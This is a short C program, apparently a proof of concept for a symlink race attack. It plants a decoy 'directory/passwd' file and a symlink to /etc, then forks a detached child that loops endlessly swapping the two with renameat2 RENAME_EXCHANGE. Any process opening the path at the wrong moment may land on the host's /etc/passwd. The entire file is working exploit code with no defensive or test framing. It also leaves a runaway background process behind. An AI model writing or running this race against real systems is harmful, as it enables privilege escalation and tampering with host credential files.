/* A child that stays swaps a directory for a link to one of the host, for whoever opens by path at the wrong moment. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void)
{
    mkdir("directory", 0755);
    FILE *file = fopen("directory/passwd", "w");
    fputs("mine", file);
    fclose(file);
    symlink("/etc", "link");
    if (fork() == 0) {
        setsid();
        for (;;)
            renameat2(AT_FDCWD, "directory", AT_FDCWD, "link", RENAME_EXCHANGE);
    }
    usleep(20 * 1000);
    puts("swapping");
}
